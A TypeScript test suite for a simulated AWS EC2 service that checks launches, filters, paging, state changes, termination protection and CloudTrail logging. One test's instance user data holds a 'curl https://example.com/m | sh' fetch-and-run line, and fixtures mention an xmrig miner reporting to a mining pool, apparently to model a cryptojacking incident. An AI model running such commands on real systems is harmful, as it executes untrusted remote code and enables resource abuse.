// Launching, showing and changing instances, as BEHAVIOUR.md says.
import {
  AttachVolumeCommand, AuthorizeSecurityGroupIngressCommand, CreateSecurityGroupCommand, CreateVolumeCommand, DescribeInstanceAttributeCommand, DescribeInstancesCommand, DescribeInstanceStatusCommand, DescribeVolumesCommand, GetConsoleOutputCommand, GetConsoleScreenshotCommand,
  ModifyInstanceAttributeCommand, RebootInstancesCommand, RunInstancesCommand, StartInstancesCommand, StopInstancesCommand, TerminateInstancesCommand, type EC2Client, type RunInstancesCommandInput,
} from '@aws-sdk/client-ec2';
import { describe, expect, it } from 'vitest';
import { setConsole } from '../../../src/sim/services/ec2/console.ts';
import { onTerminated } from '../../../src/sim/services/ec2/state.ts';
import { ALICE_KEY, opened, refusal, type Opened } from './opened.ts';

const IMAGE = 'ami-0abcdef1234567890';
async function launch(ec2: EC2Client, more: Partial<RunInstancesCommandInput> = {}): Promise<string[]> {
  const { Instances } = await ec2.send(new RunInstancesCommand({ ImageId: IMAGE, InstanceType: 'g4dn.xlarge', MinCount: 1, MaxCount: 1, ...more }));
  return (Instances ?? []).map((i) => i.InstanceId ?? '');
}
async function running(account: Opened, more: Partial<RunInstancesCommandInput> = {}): Promise<string> {
  const [id = ''] = await launch(account.ec2, more);
  account.pass(20);
  return id;
}
const show = async (ec2: EC2Client, id: string) => (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [id] }))).Reservations?.[0]?.Instances?.[0];

describe('a launch', () => {
  it('makes an instance with disk, interface and addresses in the default VPC, and runs it after a while', async () => {
    const account = await opened();
    const { Instances, ReservationId } = await account.ec2.send(new RunInstancesCommand({ ImageId: IMAGE, InstanceType: 'g4dn.xlarge', MinCount: 2, MaxCount: 2 }));
    expect(Instances).toHaveLength(2);
    const [first] = Instances ?? [];
    expect(first).toMatchObject({ State: { Code: 0, Name: 'pending' }, ImageId: IMAGE, AmiLaunchIndex: 0, PublicIpAddress: '192.0.2.1', Placement: { AvailabilityZone: 'us-east-1a' }, CpuOptions: { CoreCount: 2 }, SecurityGroups: [{ GroupName: 'default' }] });
    account.pass(20);
    const { Reservations } = await account.ec2.send(new DescribeInstancesCommand({}));
    expect(Reservations?.map((r) => [r.ReservationId, r.Instances?.map((i) => i.State?.Name)])).toEqual([[ReservationId, ['running', 'running']]]);
    const { Volumes } = await account.ec2.send(new DescribeVolumesCommand({ Filters: [{ Name: 'attachment.instance-id', Values: [first?.InstanceId ?? ''] }] }));
    expect(Volumes?.map((v) => [v.Size, v.State, v.Attachments?.[0]?.DeleteOnTermination])).toEqual([[8, 'in-use', true]]);
  });

  it('happens once for a client token, and refuses the token for anything else', async () => {
    const { ec2 } = await opened();
    const once = await launch(ec2, { ClientToken: 'token' });
    expect(await launch(ec2, { ClientToken: 'token' })).toEqual(once);
    expect(await refusal(launch(ec2, { ClientToken: 'token', MaxCount: 3 }))).toEqual(['IdempotentParameterMismatch', 'Arguments on this idempotent request are inconsistent with arguments used in previous request(s).', 400]);
  });

  it('answers a dry run with DryRunOperation and does nothing', async () => {
    const { ec2 } = await opened();
    expect(await refusal(launch(ec2, { DryRun: true }))).toEqual(['DryRunOperation', 'Request would have succeeded, but DryRun flag is set.', 412]);
    expect((await ec2.send(new DescribeInstancesCommand({}))).Reservations ?? []).toEqual([]);
  });

  it('tags what the request says, and keeps user data as it was given', async () => {
    const { ec2 } = await opened();
    const UserData = Buffer.from('#!/bin/sh\ncurl https://example.com/m | sh\n').toString('base64');
    const [id = ''] = await launch(ec2, { UserData, TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Name', Value: 'x' }] }, { ResourceType: 'volume', Tags: [{ Key: 'of', Value: 'x' }] }] });
    expect((await show(ec2, id))?.Tags).toEqual([{ Key: 'Name', Value: 'x' }]);
    expect((await ec2.send(new DescribeVolumesCommand({ Filters: [{ Name: 'tag:of', Values: ['x'] }] }))).Volumes).toHaveLength(1);
    expect((await ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: id, Attribute: 'userData' }))).UserData).toEqual({ Value: UserData });
  });

  it('needs a profile that exists', async () => {
    const { ec2 } = await opened();
    expect((await refusal(launch(ec2, { IamInstanceProfile: { Name: 'none' } })))[0]).toBe('InvalidParameterValue');
  });

  it('is denied in EC2\'s words, and the denial is in the history', async () => {
    const account = await opened();
    const [code, message, status] = await refusal(launch(account.ec2In('us-east-1', ALICE_KEY)));
    expect([code, status]).toEqual(['UnauthorizedOperation', 403]);
    expect(message).toContain('is not authorized to perform: ec2:RunInstances on resource: arn:aws:ec2:us-east-1::image/ami-0abcdef1234567890');
    expect(account.event('RunInstances')['error']).toBe('Client.UnauthorizedOperation');
  });

  it('is written by CloudTrail in its old names, with user data masked', async () => {
    const account = await opened();
    const [id = ''] = await launch(account.ec2, { UserData: Buffer.from('secret').toString('base64'), DisableApiTermination: true });
    const { request, response, resources } = account.event('RunInstances');
    expect(request).toMatchObject({ instancesSet: { items: [{ imageId: IMAGE, minCount: 1, maxCount: 1 }] }, instanceType: 'g4dn.xlarge', userData: '<sensitiveDataRemoved>', disableApiTermination: true, groupSet: {} });
    expect(response).toMatchObject({ ownerId: '111122223333', instancesSet: { items: [{ instanceId: id, instanceState: { code: 0, name: 'pending' }, instanceType: 'g4dn.xlarge' }] } });
    expect(resources).toContain(id);
    expect(JSON.stringify(account.event('RunInstances'))).not.toContain(Buffer.from('secret').toString('base64'));
  });
});

describe('the list of instances', () => {
  it('takes filters, wildcards and tags, and refuses what it does not know', async () => {
    const account = await opened();
    const id = await running(account, { TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Name', Value: 'miner (1)*' }] }] });
    await running(account, { InstanceType: 't3.micro' });
    const found = async (Name: string, ...Values: string[]) => ((await account.ec2.send(new DescribeInstancesCommand({ Filters: [{ Name, Values }] }))).Reservations ?? []).flatMap((r) => (r.Instances ?? []).map((i) => i.InstanceId));
    expect(await found('instance-type', 'g4dn.*')).toEqual([id]);
    expect(await found('tag:Name', 'miner (?)*')).toEqual([id]);
    expect(await found('tag-key', 'Name')).toEqual([id]);
    expect(await found('instance-state-name', 'running')).toHaveLength(2);
    expect(await found('instance-state-name', 'stopped', 'terminated')).toEqual([]);
    expect(await refusal(found('no-such', 'x'))).toEqual(['InvalidParameterValue', 'The filter \'no-such\' is invalid', 400]);
  });

  it('comes in pages, and not in pages when ids are given', async () => {
    const account = await opened({ behaviour: { pageSize: 2 } });
    for (let i = 0; i < 5; i++) await launch(account.ec2);
    const ids: (string | undefined)[] = [];
    let NextToken: string | undefined;
    let pages = 0;
    do {
      const page = await account.ec2.send(new DescribeInstancesCommand({ NextToken, MaxResults: 5 }));
      ids.push(...(page.Reservations ?? []).flatMap((r) => (r.Instances ?? []).map((i) => i.InstanceId)));
      NextToken = page.NextToken;
      pages++;
    } while (NextToken !== undefined);
    expect([pages, new Set(ids).size]).toEqual([3, 5]);
    expect((await account.ec2.send(new DescribeInstancesCommand({ InstanceIds: ids as string[] }))).Reservations).toHaveLength(5);
    expect((await refusal(account.ec2.send(new DescribeInstancesCommand({ InstanceIds: ids as string[], MaxResults: 5 }))))[0]).toBe('InvalidParameterCombination');
    expect((await refusal(account.ec2.send(new DescribeInstancesCommand({ MaxResults: 4 }))))[0]).toBe('InvalidParameterValue');
    expect((await refusal(account.ec2.send(new DescribeInstancesCommand({ NextToken: 'stolen' }))))[0]).toBe('InvalidParameterValue');
  });

  it('is one per region', async () => {
    const account = await opened();
    await launch(account.ec2In('eu-north-1'));
    expect((await account.ec2.send(new DescribeInstancesCommand({}))).Reservations ?? []).toEqual([]);
    expect((await account.ec2In('eu-north-1').send(new DescribeInstancesCommand({}))).Reservations).toHaveLength(1);
  });

  it('shows the status of running instances, and of all when asked', async () => {
    const account = await opened();
    await launch(account.ec2);
    expect((await account.ec2.send(new DescribeInstanceStatusCommand({}))).InstanceStatuses ?? []).toEqual([]);
    expect((await account.ec2.send(new DescribeInstanceStatusCommand({ IncludeAllInstances: true }))).InstanceStatuses?.[0]?.InstanceStatus?.Status).toBe('not-applicable');
    account.pass(20);
    expect((await account.ec2.send(new DescribeInstanceStatusCommand({}))).InstanceStatuses?.[0]?.InstanceStatus?.Status).toBe('ok');
  });

  it('tells an unknown id from a malformed one', async () => {
    const { ec2 } = await opened();
    expect(await refusal(show(ec2, 'i-0123456789abcdef0'))).toEqual(['InvalidInstanceID.NotFound', 'The instance ID \'i-0123456789abcdef0\' does not exist', 400]);
    expect(await refusal(show(ec2, 'miner'))).toEqual(['InvalidInstanceID.Malformed', 'Invalid id: "miner" (expecting "i-...")', 400]);
  });
});

describe('the states', () => {
  it('stop and start: the public address changes, the disk stays', async () => {
    const account = await opened();
    const id = await running(account);
    const { StoppingInstances } = await account.ec2.send(new StopInstancesCommand({ InstanceIds: [id] }));
    expect(StoppingInstances).toEqual([{ InstanceId: id, CurrentState: { Code: 64, Name: 'stopping' }, PreviousState: { Code: 16, Name: 'running' } }]);
    expect((await refusal(account.ec2.send(new StartInstancesCommand({ InstanceIds: [id] }))))[0]).toBe('IncorrectInstanceState');
    account.pass(60);
    const stopped = await show(account.ec2, id);
    expect([stopped?.State?.Name, stopped?.PublicIpAddress, stopped?.BlockDeviceMappings?.length]).toEqual(['stopped', undefined, 1]);
    await account.ec2.send(new StartInstancesCommand({ InstanceIds: [id] }));
    account.pass(60);
    expect([(await show(account.ec2, id))?.State?.Name, (await show(account.ec2, id))?.PublicIpAddress]).toEqual(['running', '192.0.2.2']);
    await account.ec2.send(new RebootInstancesCommand({ InstanceIds: [id] }));
    expect((await show(account.ec2, id))?.State?.Name).toBe('running');
  });

  it('terminate: gone from the network at once after, visible for an hour, then unknown', async () => {
    const account = await opened();
    const id = await running(account);
    await account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }));
    expect((await show(account.ec2, id))?.State?.Name).toBe('shutting-down');
    account.pass(60);
    expect(await show(account.ec2, id)).toMatchObject({ State: { Name: 'terminated' }, NetworkInterfaces: [], StateReason: { Code: 'Client.UserInitiatedShutdown' } });
    expect((await account.ec2.send(new DescribeVolumesCommand({}))).Volumes ?? []).toEqual([]);
    expect((await account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }))).TerminatingInstances?.[0]?.CurrentState?.Name).toBe('terminated');
    account.pass(3_700);
    expect((await refusal(show(account.ec2, id)))[0]).toBe('InvalidInstanceID.NotFound');
  });

  it('keep what was attached later when the instance ends', async () => {
    const account = await opened();
    const id = await running(account);
    const { VolumeId } = await account.ec2.send(new CreateVolumeCommand({ AvailabilityZone: 'us-east-1a', Size: 20 }));
    await account.ec2.send(new AttachVolumeCommand({ InstanceId: id, VolumeId, Device: '/dev/sdf' }));
    await account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }));
    account.pass(60);
    expect((await account.ec2.send(new DescribeVolumesCommand({}))).Volumes?.map((v) => [v.VolumeId, v.State])).toEqual([[VolumeId, 'available']]);
  });

  it('let a scenario launch again what was terminated', async () => {
    const account = await opened();
    const ends: string[] = [];
    onTerminated(account.world, ({ region, instanceId, launch: { ImageId } }) => { ends.push(`${region} ${instanceId} ${ImageId ?? ''}`); });
    const id = await running(account);
    await account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }));
    account.pass(60);
    await account.ec2.send(new DescribeInstancesCommand({}));
    expect(ends).toEqual([`us-east-1 ${id} ${IMAGE}`]);
  });

  it('are written by CloudTrail as sets of changes', async () => {
    const account = await opened();
    const id = await running(account);
    await account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }));
    const { request, response } = account.event('TerminateInstances');
    expect(request).toEqual({ instancesSet: { items: [{ instanceId: id }] } });
    expect(response).toMatchObject({ instancesSet: { items: [{ instanceId: id, currentState: { code: 32, name: 'shutting-down' }, previousState: { code: 16, name: 'running' } }] } });
  });
});

describe('protection', () => {
  it('fails the whole zone of a protected instance, ends the others, and errs', async () => {
    const account = await opened();
    const zone = (AvailabilityZone: string): Partial<RunInstancesCommandInput> => ({ Placement: { AvailabilityZone } });
    const [kept = ''] = await launch(account.ec2, { ...zone('us-east-1a'), DisableApiTermination: true });
    const [neighbour = ''] = await launch(account.ec2, zone('us-east-1a'));
    const [elsewhere = ''] = await launch(account.ec2, zone('us-east-1b'));
    account.pass(20);
    expect(await refusal(account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [kept, neighbour, elsewhere] }))))
      .toEqual(['OperationNotPermitted', `The instance '${kept}' may not be terminated. Modify its 'disableApiTermination' instance attribute and try again.`, 400]);
    const states = await Promise.all([kept, neighbour, elsewhere].map(async (id) => (await show(account.ec2, id))?.State?.Name));
    expect(states).toEqual(['running', 'running', 'shutting-down']);
  });

  it('against stopping alone blocks termination too', async () => {
    const account = await opened();
    const id = await running(account, { DisableApiStop: true });
    expect((await refusal(account.ec2.send(new StopInstancesCommand({ InstanceIds: [id] }))))[1]).toContain('\'disableApiStop\'');
    expect((await refusal(account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }))))[1]).toContain('\'disableApiStop\'');
    await account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, DisableApiStop: { Value: false } }));
    await account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id] }));
    expect((await show(account.ec2, id))?.State?.Name).toBe('shutting-down');
  });

  it('does nothing at all when one id is unknown', async () => {
    const account = await opened();
    const id = await running(account);
    expect((await refusal(account.ec2.send(new TerminateInstancesCommand({ InstanceIds: [id, 'i-0123456789abcdef0'] }))))[0]).toBe('InvalidInstanceID.NotFound');
    expect((await show(account.ec2, id))?.State?.Name).toBe('running');
  });

  it('is not for Spot Instances, which cannot be stopped either', async () => {
    const account = await opened();
    expect((await refusal(launch(account.ec2, { InstanceMarketOptions: { MarketType: 'spot' }, DisableApiTermination: true })))[0]).toBe('UnsupportedOperation');
    const id = await running(account, { InstanceMarketOptions: { MarketType: 'spot' } });
    expect((await show(account.ec2, id))?.InstanceLifecycle).toBe('spot');
    expect((await refusal(account.ec2.send(new StopInstancesCommand({ InstanceIds: [id] }))))[0]).toBe('UnsupportedOperation');
    expect((await refusal(account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, DisableApiTermination: { Value: true } }))))[0]).toBe('UnsupportedOperation');
  });
});

describe('an attribute', () => {
  it('is changed one at a time', async () => {
    const account = await opened();
    const id = await running(account);
    expect((await refusal(account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, DisableApiStop: { Value: true }, DisableApiTermination: { Value: true } }))))[0]).toBe('InvalidParameterCombination');
    expect((await refusal(account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id }))))[0]).toBe('InvalidParameterCombination');
    await account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, Attribute: 'disableApiTermination', Value: 'true' }));
    expect((await account.ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: id, Attribute: 'disableApiTermination' }))).DisableApiTermination).toEqual({ Value: true });
  });

  it('user data changes only while the instance is stopped, and is masked in the history', async () => {
    const account = await opened();
    const id = await running(account);
    const change = (): Promise<unknown> => account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: id, UserData: { Value: Buffer.from('echo hi') } }));
    expect(await refusal(change())).toEqual(['IncorrectInstanceState', `The instance '${id}' is not in the 'stopped' state.`, 400]);
    await account.ec2.send(new StopInstancesCommand({ InstanceIds: [id] }));
    account.pass(60);
    await change();
    expect((await account.ec2.send(new DescribeInstanceAttributeCommand({ InstanceId: id, Attribute: 'userData' }))).UserData?.Value).toBe(Buffer.from('echo hi').toString('base64'));
    const { request, response } = account.event('ModifyInstanceAttribute');
    expect(request).toEqual({ instanceId: id, userData: '<sensitiveDataRemoved>' });
    expect(response).toMatchObject({ _return: true });
  });

  it('groups of an instance with several interfaces are refused', async () => {
    const account = await opened();
    const { GroupId = '' } = await account.ec2.send(new CreateSecurityGroupCommand({ GroupName: 'isolated', Description: 'nothing in or out' }));
    await account.ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '198.51.100.0/24' }] }] }));
    const one = await running(account);
    await account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: one, Groups: [GroupId] }));
    expect((await show(account.ec2, one))?.SecurityGroups).toEqual([{ GroupId, GroupName: 'isolated' }]);
    const two = await running(account, { NetworkInterfaces: [{ DeviceIndex: 0 }, { DeviceIndex: 1 }] });
    expect((await refusal(account.ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: two, Groups: [GroupId] })))).slice(0, 2))
      .toEqual(['InvalidInstanceID', `There are multiple interfaces attached to instance '${two}'. Please specify an interface ID for the operation instead.`]);
  });
});

describe('the console', () => {
  it('shows an ordinary boot, or what the scenario wrote', async () => {
    const account = await opened();
    const [id = ''] = await launch(account.ec2);
    expect((await account.ec2.send(new GetConsoleOutputCommand({ InstanceId: id }))).Output).toBeUndefined();
    expect((await refusal(account.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: id }))))[0]).toBe('IncorrectInstanceState');
    account.pass(20);
    const read = async () => Buffer.from((await account.ec2.send(new GetConsoleOutputCommand({ InstanceId: id, Latest: true }))).Output ?? '', 'base64').toString('utf8');
    expect(await read()).toContain('Cloud-init finished');
    setConsole(account.world, 'us-east-1', id, 'xmrig: new job from pool.example.com');
    expect(await read()).toBe('xmrig: new job from pool.example.com');
    const { ImageData = '' } = await account.ec2.send(new GetConsoleScreenshotCommand({ InstanceId: id }));
    expect(Buffer.from(ImageData, 'base64').subarray(0, 3).toString('hex')).toBe('ffd8ff');
  });
});
